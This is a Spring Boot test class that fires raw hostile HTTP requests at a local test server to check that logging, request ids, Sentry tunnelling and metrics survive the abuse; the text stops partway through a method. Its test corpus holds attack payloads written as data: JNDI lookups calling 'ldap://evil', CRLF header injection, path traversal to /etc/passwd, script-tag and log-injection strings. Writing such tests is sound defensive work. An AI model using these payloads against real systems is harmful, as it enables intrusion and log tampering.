package dev.observability.autoconfigure;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.Principal;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collection;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.observability.autoconfigure.sentry.SentryTestReceiver;
import io.micrometer.core.instrument.Meter;
import io.micrometer.core.instrument.MeterRegistry;
import io.sentry.Sentry;
import jakarta.servlet.http.HttpServletRequest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.SpringBootConfiguration;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.http.HttpHeaders;
import org.springframework.http.ResponseEntity;
import org.springframework.security.config.Customizer;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.core.userdetails.User;
import org.springframework.security.provisioning.InMemoryUserDetailsManager;
import org.springframework.security.web.SecurityFilterChain;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.PathVariable;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestHeader;
import org.springframework.web.bind.annotation.RestController;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Hostile requests against a real application with the whole starter on: JSON logs, the access
 * line, request ids, Sentry and its browser tunnel, tracing with span lines, the Prometheus
 * registry. Requests go out as raw bytes, so that nothing on the way cleans them up: line breaks
 * in header values, lookup strings, JSON breakers, invalid UTF-8, NUL bytes, oversized lines and
 * headers, path tricks, secrets in queries, headers and bodies, broken envelopes.
 * <p>
 * Whatever the input: no 5xx; a response request id that is fresh or the caller's valid one, and
 * no injected response header; every log line one JSON object whose ids are ids; no secret in any
 * log line, error event or scrape; exactly one access line, with a template for its path, per
 * request that reaches the application. A request that the connector refuses before any filter
 * runs (a malformed or oversized head, a bad URI encoding) gets its 400, or 505 for an unknown HTTP
 * version, with no request id, and one access line whose path is {@code REJECTED}.
 * <p>
 * The tests after the sweep check what it left: a bounded number of {@code http.server.requests}
 * series, a clean scrape, scrubbed error events and an application that still answers.
 * <p>
 * The build runs this class in a JVM of its own: Spring Boot sets logging up once per JVM, until
 * the context that did it closes, and the other tests' cached contexts write readable lines.
 */
@ExportTelemetry
@ExtendWith(OutputCaptureExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = { "spring.main.banner-mode=off", "spring.application.name=hostile",
				"management.tracing.sampling.probability=1.0",
				TestLine.SPAN_EXPORT + "schedule-delay=50ms",
				"observability.tracing.console-exporter=true",
				"observability.metrics.prometheus.password=" + HostileInputTests.SCRAPE_PASSWORD,
				"observability.sentry.tunnel.enabled=true", "observability.sentry.tunnel.max-envelope-size=64KB" })
class HostileInputTests {

	static final String SCRAPE_PASSWORD = "scrape-pass-q1";

	private static final String NO_REQUEST_ID = "(none)";

	/**
	 * A user who chose a hostile name when signing up (no ':', which HTTP Basic cannot carry).
	 */
	static final String HOSTILE_USER = "mallory\"}\r\n{\"level\"=\"ERROR\" ${jndi}<script>";

	static final String USER_PASSWORD = "user-pass-q2";

	static final String JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJtYWxsb3J5In0.c2lnbmF0dXJlLXF1aXRlLXNlY3JldA";

	/**
	 * Values that must never reach a log line, an error event or a scrape. None is made of hex
	 * digits only, so that no random id can contain one.
	 */
	static final List<String> SECRETS = List.of("hunter2", "abc123xyz", JWT, "sess-cookie-q42", "jsess-path-q43",
			"baggage-secret-q44", "body-secret-q45", "tunnel-secret-q46", SCRAPE_PASSWORD, USER_PASSWORD,
			base64(HOSTILE_USER + ":" + USER_PASSWORD), base64("prometheus:" + SCRAPE_PASSWORD));

	/**
	 * What must never come back in a response header.
	 */
	static final List<String> ECHO_MARKERS = List.of("x=1", "jndi", "evil", "script", "level", "X-Injected",
			"hunter2", "abc123xyz", "sess-cookie", "\u00c3");

	static final String HEX_ID = "[0-9a-f]{32}";

	/**
	 * The access line's path and the {@code uri} tag: a route template or a fixed word, never a raw
	 * path. An unknown path is answered by Spring MVC's static resource handler, whose pattern is
	 * {@code /**}.
	 */
	static final Set<String> TEMPLATES = Set.of("/api/items/{id}", "/api/items", "/api/upload", "/api/me",
			"/api/reports/{id}", "/monitoring/sentry", "/**", "NOT_FOUND", "UNKNOWN", "REDIRECTION");

	private static final SentryTestReceiver sentry = SentryTestReceiver.start();

	private static final ObjectMapper json = new ObjectMapper()
		.enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION);

	@LocalServerPort
	int port;

	@Autowired
	MeterRegistry meters;

	private int sweepStart;

	@DynamicPropertySource
	static void sentry(DynamicPropertyRegistry registry) {
		registry.add("sentry.dsn", sentry::dsn);
		registry.add("observability.sentry.tunnel.allowed-dsns", sentry::dsn);
	}

	@BeforeAll
	void markSweepStart(CapturedOutput output) {
		this.sweepStart = output.getOut().length();
	}

	@AfterAll
	static void stop() {
		sentry.close();
	}

	static Stream<Hostile> corpus() {
		String allowedDsn = sentry.dsn();
		return Stream.of(
				// First, so that it is likely the connector's first refusal, the one logged at INFO.
				hostile("bearer JWT in a header the connector refuses",
						get("/api/items/1").header("Authorization", "Bearer " + JWT + "\r")),

				// The request id header.
				hostile("valid caller id is kept", get("/api/items/1").header("X-Request-Id", "caller-1:a/b=c+d_e.f"))
					.callerId("caller-1:a/b=c+d_e.f"),
				hostile("request id with CRLF and Set-Cookie",
						get("/api/items/1").header("X-Request-Id", "abc\r\nSet-Cookie: x=1"))
					.callerId("abc"),
				hostile("request id with bare LF", get("/api/items/1").header("X-Request-Id", "abc\nSet-Cookie: x=1"))
					.callerId("abc"),
				hostile("request id with bare CR", get("/api/items/1").header("X-Request-Id", "abc\rSet-Cookie: x=1")),
				hostile("request id with encoded CRLF",
						get("/api/items/1").header("X-Request-Id", "abc%0d%0aSet-Cookie:%20x=1")),
				hostile("request id with JNDI lookup",
						get("/api/items/1").header("X-Request-Id", "${jndi:ldap://evil/a}")),
				hostile("request id of 10 KB", get("/api/items/1").header("X-Request-Id", "a".repeat(10 * 1024))),
				hostile("request id of 2 KB", get("/api/items/1").header("X-Request-Id", "a".repeat(2 * 1024))),
				hostile("request id of 129 characters", get("/api/items/1").header("X-Request-Id", "a".repeat(129))),
				hostile("request id with invalid UTF-8",
						get("/api/items/1").header("X-Request-Id", "abc\u00c3\u0028\u00ff")),
				hostile("request id with JSON breaker",
						get("/api/items/1").header("X-Request-Id", "\"},\"level\":\"ERROR")),
				hostile("request id with script tag",
						get("/api/items/1").header("X-Request-Id", "<script>alert(1)</script>")),
				hostile("empty request id", get("/api/items/1").header("X-Request-Id", "")),
				hostile("request id of spaces only", get("/api/items/1").header("X-Request-Id", "     ")),
				hostile("request id with unicode lookalikes",
						get("/api/items/1").header("X-Request-Id", utf8("\u0430bc-\uff11\uff12\u2010x"))),
				hostile("request id with NUL", get("/api/items/1").header("X-Request-Id", "abc\u0000def")),
				hostile("request id with encoded NUL", get("/api/items/1").header("X-Request-Id", "abc%00def")),
				hostile("request id folded over two lines (obs-fold)",
						get("/api/items/1").header("X-Request-Id", "abc\r\n def")),
				hostile("request id holding a secret", get("/api/items/1").header("X-Request-Id", "token=abc123xyz")),
				hostile("request id that is a JWT", get("/api/items/1").header("X-Request-Id", JWT)),
				hostile("hostile correlation id",
						get("/api/items/1").header("X-Correlation-Id", "${jndi:ldap://evil/c}")),
				hostile("valid request id and hostile correlation id",
						get("/api/items/1").header("X-Request-Id", "caller-2")
							.header("X-Correlation-Id", "\"}${jndi:x}"))
					.callerId("caller-2"),
				hostile("hostile then valid request id",
						get("/api/items/1").header("X-Request-Id", "${jndi:ldap://evil/a}")
							.header("X-Request-Id", "caller-3")),

				// Paths.
				hostile("path with encoded CRLF and Set-Cookie", get("/%0d%0aSet-Cookie:x=1")),
				hostile("path item with encoded CRLF", get("/api/items/%0d%0aSet-Cookie:x=1")),
				hostile("path climbing out of the root", get("/../../etc/passwd")),
				hostile("path of encoded dot segments", get("/%2e%2e/")),
				hostile("path climbing out with encoded dot segments", get("/%2e%2e/%2e%2e/etc/passwd")),
				hostile("path with invalid characters and secrets in the query",
						get("/api/items/{x}?token=abc123xyz&password=hunter2")),
				hostile("path of 8 KB", get("/api/items/" + "a".repeat(8 * 1024))),
				hostile("path of 4 KB", get("/api/items/" + "a".repeat(4 * 1024))),
				hostile("path with invalid UTF-8 encoding", get("/api/items/%ff%fe")),
				hostile("path with raw invalid UTF-8", get("/api/items/\u00ff\u00fe")),
				hostile("path with jsessionid", get("/api/items/7;jsessionid=jsess-path-q43")),
				hostile("path with JNDI lookup", get("/api/items/${jndi:ldap://evil/a}")),
				hostile("path with encoded JNDI lookup", get("/api/items/%24%7Bjndi:ldap:evil%7D")),
				hostile("path with encoded JSON breaker", get("/api/items/%22%7D,%22level%22:%22ERROR")),
				hostile("path with encoded script tag", get("/api/items/%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
				hostile("path with encoded NUL", get("/api/items/a%00b")),
				// Routed to /api/items/1: an access line like any application request, not hidden as actuator.
				hostile("path into the actuator and back out", get("/actuator/../api/items/1")),
				hostile("many distinct item ids", IntStream.range(0, 120).mapToObj((i) -> get("/api/items/id-" + i))
					.toArray(Raw[]::new)),
				hostile("many distinct unknown paths", IntStream.range(0, 120).mapToObj((i) -> get("/nowhere/" + i))
					.toArray(Raw[]::new)),
				hostile("unknown method", new Raw("FOO /api/items/1 HTTP/1.1")),
				hostile("request line of 10 KB", get("/" + "a".repeat(10 * 1024) + "?x=1")),
				// Tomcat answers 505 HTTP Version Not Supported itself, before any filter runs.
				hostile("unsupported HTTP version", new Raw("GET /api/items/1 HTTP/9.9")).statuses(505)
					.answeredByTheConnector(),

				// Query strings.
				hostile("query with secrets", get("/api/items/1?token=abc123xyz&password=hunter2")),
				hostile("query with encoded JSON breaker", get("/api/items/1?q=%22%7D,%22level%22:%22ERROR%22")),
				hostile("query with raw JSON breaker", get("/api/items/1?q=\"},\"level\":\"ERROR\"")),
				hostile("query with encoded CRLF", get("/api/items/1?q=%0d%0aSet-Cookie:x=1")),
				hostile("query with invalid UTF-8", get("/api/items/1?q=%ff%fe&token=abc123xyz")),

				// Bodies.
				hostile("invalid JSON", post("/api/items", "application/json", "{\"name\": \"body-secret-q45\", ")),
				hostile("JSON with invalid UTF-8", post("/api/items", "application/json;charset=UTF-8",
						"{\"name\":\"\u00c3\u0028\u00ff\"}")),
				hostile("JSON nested 100k deep", post("/api/items", "application/json", "[".repeat(100_000))),
				hostile("JSON with a lookup for a charset",
						post("/api/items", "application/json;charset=${jndi:x}", "{}")),
				hostile("body of 1 MB", post("/api/upload", "application/octet-stream", "x".repeat(1024 * 1024))),
				hostile("body with invalid UTF-8 and NUL", post("/api/upload", "text/plain;charset=UTF-8",
						"\u00c3\u0028\u0000\u00ff password=hunter2")),
				hostile("tunnel: garbage", post("/monitoring/sentry", "application/x-sentry-envelope",
						"\u00ff\u00fe\u0000garbage")).statuses(400),
				hostile("tunnel: header not an object", post("/monitoring/sentry", "application/x-sentry-envelope",
						"[\"" + allowedDsn + "\"]\n")).statuses(400),
				hostile("tunnel: oversized", post("/monitoring/sentry", "application/x-sentry-envelope",
						envelope(allowedDsn, "{\"message\":\"" + "x".repeat(100_000) + "\"}"))).statuses(413),
				hostile("tunnel: oversized without length", post("/monitoring/sentry", "application/x-sentry-envelope",
						envelope(allowedDsn, "{\"message\":\"" + "x".repeat(100_000) + "\"}")).chunked()).statuses(413),
				hostile("tunnel: oversized by its declared length", post("/monitoring/sentry",
						"application/x-sentry-envelope", "{}").declaredLength(Long.MAX_VALUE / 2)).statuses(413),
				hostile("tunnel: GET", get("/monitoring/sentry").header("X-Request-Id", "${jndi:ldap://evil/a}"))
					.statuses(405),
				hostile("tunnel: DSN not allowed", post("/monitoring/sentry", "application/x-sentry-envelope",
						envelope("http://public@evil.example/1", "{\"message\":\"tunnel-secret-q46\"}"))).statuses(403),
				hostile("tunnel: DSN with JNDI lookup", post("/monitoring/sentry", "application/x-sentry-envelope",
						envelope("${jndi:ldap://evil/a}", "{}"))).statuses(403),
				hostile("tunnel: item longer than the envelope", post("/monitoring/sentry",
						"application/x-sentry-envelope", "{\"dsn\":\"" + allowedDsn
								+ "\"}\n{\"type\":\"event\",\"length\":2147483647}\n{}\n")).statuses(400),
				hostile("tunnel: item of negative length", post("/monitoring/sentry", "application/x-sentry-envelope",
						"{\"dsn\":\"" + allowedDsn + "\"}\n{\"type\":\"event\",\"length\":-5}\n{}\n")).statuses(400),
				hostile("tunnel: item header not an object", post("/monitoring/sentry", "application/x-sentry-envelope",
						"{\"dsn\":\"" + allowedDsn + "\"}\nnull\n{}\n")).statuses(400),
				hostile("tunnel: event nested 60k deep", post("/monitoring/sentry", "application/x-sentry-envelope",
						envelope(allowedDsn, "[".repeat(60_000)))).statuses(400),
				hostile("tunnel: event with secrets", post("/monitoring/sentry", "application/x-sentry-envelope",
						envelope(allowedDsn, "{\"message\":\"hostile-tunnel-event password=hunter2 token=abc123xyz\","
								+ "\"request\":{\"cookies\":\"SESSION=sess-cookie-q42\"}}")))
					.statuses(200),

				// An error the application logs, with what the caller sent: a Sentry event.
				hostile("error logged with a hostile id and secrets",
						get("/api/reports/%24%7Bjndi:ldap:evil%7D%22%7D?token=abc123xyz&password=hunter2")
							.header("X-Request-Id", "\"},\"level\":\"ERROR")),

				// Other headers.
				hostile("User-Agent with JNDI lookup",
						get("/api/items/1").header("User-Agent", "${jndi:ldap://evil/a}")),
				hostile("User-Agent with CRLF", get("/api/items/1").header("User-Agent", "Mozilla\r\nX-Injected: 1")),
				hostile("User-Agent with invalid UTF-8",
						get("/api/items/1").header("User-Agent", "Mozilla \u00c3\u0028\u00ff")),
				hostile("bearer JWT and session cookie", post("/api/upload", "text/plain", "hello")
					.header("Authorization", "Bearer " + JWT)
					.header("Cookie", "SESSION=sess-cookie-q42; JSESSIONID=jsess-path-q43")),
				hostile("invalid cookie header next to a session cookie",
						get("/api/items/1").header("Cookie", "theme=dark; SESSION=sess-cookie-q42; broken=\"unclosed")),
				hostile("basic credentials of a hostile user",
						get("/api/me").header("Authorization", "Basic " + base64(HOSTILE_USER + ":" + USER_PASSWORD)))
					.statuses(200),
				hostile("basic credentials that are not base64",
						get("/api/me").header("Authorization", "Basic %%%!!!")),
				hostile("basic credentials with invalid UTF-8",
						get("/api/me").header("Authorization", "Basic " + Base64.getEncoder()
							.encodeToString(new byte[] { (byte) 0xff, (byte) 0xfe, ':', 'x' }))),
				hostile("traceparent malformed", get("/api/items/1").header("traceparent", "00-zzzz-${jndi:x}-01")),
				hostile("traceparent all zero",
						get("/api/items/1").header("traceparent",
								"00-00000000000000000000000000000000-0000000000000000-01")),
				hostile("traceparent of a future version with extra fields", get("/api/items/1").header("traceparent",
						"ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-\"},\"level\":\"ERROR")),
				hostile("traceparent of 4 KB", get("/api/items/1").header("traceparent", "00-" + "a".repeat(4096))),
				hostile("tracestate and baggage with secrets", get("/api/items/1")
					.header("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01")
					.header("tracestate", "x=${jndi:ldap://evil/a}," + "k=v,".repeat(200))
					.header("baggage", "password=hunter2,token=baggage-secret-q44," + "k=v,".repeat(500))),
				hostile("sentry-trace and baggage malformed", get("/api/items/1")
					.header("sentry-trace", "${jndi:ldap://evil/a}-zz-9")
					.header("baggage", "sentry-trace_id=\"},\"level\":\"ERROR,sentry-public_key=%ff%fe")),
				hostile("90 headers", withHeaders(get("/api/items/1"), 90)),
				hostile("150 headers", withHeaders(get("/api/items/1"), 150)),
				hostile("header name with spaces", get("/api/items/1").header("X Request Id", "x")),
				hostile("header of 16 KB", get("/api/items/1").header("X-Padding", "p".repeat(16 * 1024))),

				// The scrape endpoint: never an access line, never metrics without credentials.
				hostile("scrape without credentials", get("/actuator/prometheus")).statuses(401).notAccessLogged(),
				hostile("scrape with credentials that are not base64",
						get("/actuator/prometheus").header("Authorization", "Basic %%%${jndi:x}"))
					.statuses(401)
					.notAccessLogged(),
				hostile("scrape with a JWT", get("/actuator/prometheus").header("Authorization", "Bearer " + JWT))
					.statuses(401)
					.notAccessLogged(),
				hostile("scrape with credentials and a hostile Accept", get("/actuator/prometheus")
					.header("Authorization", "Basic " + base64("prometheus:" + SCRAPE_PASSWORD))
					.header("Accept", "application/openmetrics-text; version=${jndi:x}; q=\"},\"level\":\"ERROR"))
					.notAccessLogged(),
				hostile("scrape with a hostile request id",
						get("/actuator/prometheus").header("X-Request-Id", "\"},\"level\":\"ERROR"))
					.statuses(401)
					.notAccessLogged());
	}

	@Order(1)
	@ParameterizedTest(name = "{0}")
	@MethodSource("corpus")
	void shouldSurvive(Hostile hostile, CapturedOutput output) throws Exception {
		int start = output.getOut().length();
		List<Response> responses = new ArrayList<>();
		for (Raw request : hostile.requests()) {
			Response response = send(request.bytes());
			responses.add(response);
			assertResponse(hostile, response);
		}
		List<String> ids = responses.stream()
			.flatMap((response) -> response.headers("X-Request-Id").stream())
			.toList();
		int refused = (int) responses.stream().filter((response) -> response.headers("X-Request-Id").isEmpty()).count();
		// An access line is written as the response completes, possibly after the client read it.
		await().atMost(Duration.ofSeconds(5))
			.pollDelay(Duration.ZERO)
			.pollInterval(Duration.ofMillis(10))
			.until(() -> {
				Map<String, List<JsonNode>> access = accessLines(lines(output, start));
				return (!hostile.accessLogged() || access.keySet().containsAll(ids))
						&& access.getOrDefault(NO_REQUEST_ID, List.of()).size() >= refused;
			});
		List<JsonNode> lines = lines(output, start);
		assertLines(hostile.name(), callerIds(Stream.of(hostile)), lines);
		Map<String, List<JsonNode>> access = accessLines(lines);
		assertThat(access.getOrDefault(NO_REQUEST_ID, List.of()))
			.as("access lines of requests refused before any filter")
			.hasSize(refused)
			.allSatisfy((line) -> assertThat(line.path("path").asText()).isEqualTo("REJECTED"));
		access.remove(NO_REQUEST_ID);
		if (hostile.accessLogged()) {
			assertThat(access.keySet()).as("request ids of the access lines").containsExactlyInAnyOrderElementsOf(ids);
			access.forEach((id, forId) -> assertThat(forId).as("access lines of %s", id)
				.singleElement()
				.satisfies((line) -> assertThat(line.path("path").asText()).isIn(TEMPLATES)));
		}
		else {
			assertThat(access).as("access lines").isEmpty();
		}
	}

	@Order(2)
	@Test
	void shouldKeepHttpServerSeriesBounded() {
		Collection<Meter> series = this.meters.find("http.server.requests").meters();
		Set<String> uris = series.stream()
			.map((meter) -> meter.getId().getTag("uri"))
			.collect(Collectors.toCollection(TreeSet::new));
		assertThat(uris).isSubsetOf(TEMPLATES);
		assertThat(series).hasSizeLessThanOrEqualTo(25);
	}

	@Order(3)
	@Test
	void shouldKeepSecretsAndRawPathsOutOfTheScrape() throws Exception {
		HttpResponse<String> scrape = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create("http://localhost:" + this.port + "/actuator/prometheus"))
				.header("Authorization", "Basic " + base64("prometheus:" + SCRAPE_PASSWORD))
				.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(scrape.statusCode()).isEqualTo(200);
		assertThat(scrape.body()).contains("http_server_requests_seconds_count")
			.doesNotContain(SECRETS.toArray(String[]::new))
			.doesNotContain("jndi", "evil", "<script", "/api/items/id-", "nowhere");
	}

	@Order(4)
	@Test
	void shouldSendErrorEventsScrubbedWithTheirRequestIds() {
		JsonNode logged = awaitEvent("Could not build report");
		assertThat(logged.toString()).contains("token=[Filtered]", "password=[Filtered]");
		assertThat(logged.path("tags").path("request_id").asText()).matches(HEX_ID);
		JsonNode tunnelled = awaitEvent("hostile-tunnel-event");
		assertThat(tunnelled.path("message").asText())
			.isEqualTo("hostile-tunnel-event password=[Filtered] token=[Filtered]");
		Sentry.flush(2000);
		assertThat(sentry.events().toString()).doesNotContain(SECRETS.toArray(String[]::new));
	}

	@Order(5)
	@Test
	void shouldStillAnswerANormalRequest(CapturedOutput output) throws Exception {
		HttpResponse<String> response = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create("http://localhost:" + this.port + "/api/items/42"))
				.header("X-Request-Id", "after-the-sweep")
				.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().allValues("X-Request-Id")).containsExactly("after-the-sweep");
		await().atMost(Duration.ofSeconds(5))
			.until(() -> accessLines(lines(output, this.sweepStart)).containsKey("after-the-sweep"));
		// Every line since the sweep began, those written between two cases included.
		List<JsonNode> lines = lines(output, this.sweepStart);
		Set<String> callerIds = callerIds(corpus());
		callerIds.add("after-the-sweep");
		assertLines("the sweep", callerIds, lines);
		assertThat(lines).as("log lines at ERROR, but for the report's own")
			.noneMatch((line) -> "ERROR".equals(line.path("level").asText())
					&& !ReportController.class.getName().equals(line.path("logger_name").asText()));
		assertThat(output.getErr()).doesNotContain(SECRETS.toArray(String[]::new));
	}

	private static JsonNode awaitEvent(String text) {
		return await().atMost(Duration.ofSeconds(10))
			.until(() -> sentry.events().stream().filter((event) -> event.toString().contains(text)).findFirst(),
					Optional::isPresent)
			.get();
	}

	private void assertResponse(Hostile hostile, Response response) {
		String name = hostile.name();
		if (hostile.statuses().isEmpty()) {
			assertThat(response.status()).as("%s: status", name).isBetween(200, 499);
		}
		else {
			assertThat(response.status()).as("%s: status", name).isIn(hostile.statuses());
		}
		List<String> ids = response.headers("X-Request-Id");
		if (hostile.connectorOnly()) {
			assertThat(ids).as("%s: request id of a request the starter never saw", name).isEmpty();
		}
		assertThat(ids).as("%s: request ids", name).hasSizeLessThanOrEqualTo(1);
		ids.forEach((id) -> assertThat(id).as("%s: request id", name)
			.satisfiesAnyOf((fresh) -> assertThat(fresh).matches(HEX_ID),
					(caller) -> assertThat(caller).isEqualTo(hostile.callerId())));
		assertThat(response.headers("Set-Cookie")).as("%s: cookies set", name).isEmpty();
		assertThat(response.head()).as("%s: response head", name).doesNotContain(ECHO_MARKERS.toArray(String[]::new));
	}

	private static void assertLines(String name, Set<String> callerIds, List<JsonNode> lines) {
		for (JsonNode line : lines) {
			String text = line.toString();
			assertThat(text).as("%s: log line", name).doesNotContain(SECRETS.toArray(String[]::new));
			if (line.has("requestId")) {
				assertThat(line.get("requestId").asText()).as("%s: requestId of %s", name, text)
					.satisfiesAnyOf((fresh) -> assertThat(fresh).matches(HEX_ID),
							(caller) -> assertThat(caller).isIn(callerIds));
			}
			if (line.has("traceId")) {
				assertThat(line.get("traceId").asText()).as("%s: traceId of %s", name, text).matches(HEX_ID);
			}
			if (line.has("spanId")) {
				assertThat(line.get("spanId").asText()).as("%s: spanId of %s", name, text).matches("[0-9a-f]{16}");
			}
		}
	}

	private static Set<String> callerIds(Stream<Hostile> cases) {
		return cases.map(Hostile::callerId).filter(Objects::nonNull).collect(Collectors.toCollection(TreeSet::new));
	}

	/**
	 * The complete log lines written since a position, each parsed as one JSON object (duplicate
	 * keys refused, so that an injected {@code "level"} cannot hide).
	 */
	private static List<JsonNode> lines(CapturedOutput output, int from) {
		String out = output.getOut();
		String written = out.substring(from, out.lastIndexOf('\n') + 1);
		List<JsonNode> lines = new ArrayList<>();
		for (String line : written.split("\n")) {
			if (line.isBlank()) {
				continue;
			}
			try {
				JsonNode node = json.readTree(line);
				assertThat(node).as("log line %s", line).isInstanceOf(ObjectNode.class);
				lines.add(node);
			}
			catch (IOException ex) {
				throw new AssertionError("Not one JSON object: " + line, ex);
			}
		}
		return lines;
	}

	private static Map<String, List<JsonNode>> accessLines(List<JsonNode> lines) {
		return lines.stream()
			.filter((line) -> "dev.observability.access".equals(line.path("logger_name").asText()))
			.collect(Collectors.groupingBy((line) -> line.path("requestId").asText(NO_REQUEST_ID)));
	}

	private Response send(byte[] request) throws IOException {
		try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), this.port)) {
			socket.setSoTimeout(10_000);
			try {
				OutputStream out = socket.getOutputStream();
				out.write(request);
				out.flush();
			}
			catch (SocketException ex) {
				// The server may answer and close before reading everything: read what it said.
			}
			ByteArrayOutputStream received = new ByteArrayOutputStream();
			InputStream in = socket.getInputStream();
			byte[] buffer = new byte[8192];
			try {
				for (int read = in.read(buffer); read != -1; read = in.read(buffer)) {
					received.write(buffer, 0, read);
					if (Response.isComplete(received.toByteArray())) {
						break;
					}
				}
			}
			catch (SocketException ex) {
				// A reset after the response: keep what arrived.
			}
			return Response.parse(received.toByteArray());
		}
	}

	static Hostile hostile(String name, Raw... requests) {
		return new Hostile(name, List.of(requests), Set.of(), null, true, false);
	}

	static Raw get(String target) {
		return new Raw("GET " + target + " HTTP/1.1");
	}

	static Raw post(String target, String contentType, String body) {
		return new Raw("POST " + target + " HTTP/1.1").header("Content-Type", contentType).body(body);
	}

	static Raw withHeaders(Raw request, int count) {
		for (int i = 0; i < count; i++) {
			request.header("X-Extra-" + i, "v" + i);
		}
		return request;
	}

	static String envelope(String dsn, String event) {
		return "{\"dsn\":\"" + dsn + "\"}\n{\"type\":\"event\"}\n" + event + "\n";
	}

	/**
	 * The UTF-8 bytes of a text, one character per byte, as the raw request carries them.
	 */
	static String utf8(String text) {
		return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
	}

	static String base64(String text) {
		return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

	/**
	 * One hostile exchange or a series of them, and what may come back.
	 *
	 * @param name what is hostile about it
	 * @param requests the raw requests
	 * @param statuses the statuses allowed, or any below 500 when empty
	 * @param callerId the one caller request id that may be kept, or {@code null}
	 * @param accessLogged whether a request that reaches the application gets an access line
	 * @param connectorOnly whether the connector answers before any filter runs
	 */
	record Hostile(String name, List<Raw> requests, Set<Integer> statuses, String callerId, boolean accessLogged,
			boolean connectorOnly) {

		Hostile statuses(Integer... statuses) {
			return new Hostile(this.name, this.requests, Set.of(statuses), this.callerId, this.accessLogged,
					this.connectorOnly);
		}

		Hostile callerId(String callerId) {
			return new Hostile(this.name, this.requests, this.statuses, callerId, this.accessLogged,
					this.connectorOnly);
		}

		Hostile notAccessLogged() {
			return new Hostile(this.name, this.requests, this.statuses, this.callerId, false, this.connectorOnly);
		}

		Hostile answeredByTheConnector() {
			return new Hostile(this.name, this.requests, this.statuses, this.callerId, this.accessLogged, true);
		}

		@Override
		public String toString() {
			return this.name;
		}

	}

	/**
	 * A request written byte for byte: every character of the text below 256 is one byte, so header
	 * values can carry line breaks, NUL and invalid UTF-8 that no HTTP client would send.
	 */
	static final class Raw {

		private final StringBuilder head = new StringBuilder();

		private String body;

		private boolean chunked;

		private Long declaredLength;

		Raw(String requestLine) {
			this.head.append(requestLine).append("\r\nHost: localhost\r\n");
		}

		Raw header(String name, String value) {
			this.head.append(name).append(": ").append(value).append("\r\n");
			return this;
		}

		Raw body(String body) {
			this.body = body;
			return this;
		}

		Raw chunked() {
			this.chunked = true;
			return this;
		}

		Raw declaredLength(long length) {
			this.declaredLength = length;
			return this;
		}

		byte[] bytes() {
			StringBuilder request = new StringBuilder(this.head);
			if (this.body != null && this.chunked) {
				request.append("Transfer-Encoding: chunked\r\n");
			}
			else if (this.body != null) {
				request.append("Content-Length: ")
					.append((this.declaredLength != null) ? this.declaredLength : this.body.length())
					.append("\r\n");
			}
			request.append("Connection: close\r\n\r\n");
			if (this.body != null && this.chunked) {
				for (int i = 0; i < this.body.length(); i += 4096) {
					String chunk = this.body.substring(i, Math.min(this.body.length(), i + 4096));
					request.append(Integer.toHexString(chunk.length())).append("\r\n").append(chunk).append("\r\n");
				}
				request.append("0\r\n\r\n");
			}
			else if (this.body != null) {
				request.append(this.body);
			}
			return request.toString().getBytes(StandardCharsets.ISO_8859_1);
		}

	}

	/**
	 * What came back: the status and the head, read as ISO-8859-1, byte for byte.
	 */
	record Response(int status, String head, Map<String, List<String>> headers) {

		static Response parse(byte[] bytes) {
			String text = new String(bytes, StandardCharsets.ISO_8859_1);
			int end = text.indexOf("\r\n\r\n");
			String head = (end >= 0) ? text.substring(0, end) : text;
			String[] lines = head.split("\r\n");
			int status = (lines[0].startsWith("HTTP/1.1 ") && lines[0].length() >= 12)
